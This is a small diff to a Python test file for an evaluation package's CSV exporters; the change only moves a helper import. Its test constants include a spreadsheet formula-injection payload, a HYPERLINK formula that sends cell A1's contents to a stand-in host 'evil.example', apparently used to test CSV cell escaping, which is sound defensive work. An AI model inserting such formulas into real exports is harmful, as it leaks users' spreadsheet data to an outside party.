@@ -30,7 +30,7 @@ from evaluation.exporters.answers import AnswerExport
 from evaluation.exporters.cells import csv_cell
 from evaluation.exporters.csv import csv_chunks
 from evaluation.exporters.rows import answer_columns, answer_rows
-from tests.evaluation.test_selectors import build_answered_study
+from tests.evaluation.test_analysis_inputs import build_answered_study
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")'
 AWKWARD = 'two lines,\n"quoted" and\r\nCRLF\tand a tab: é 中文 🚀'
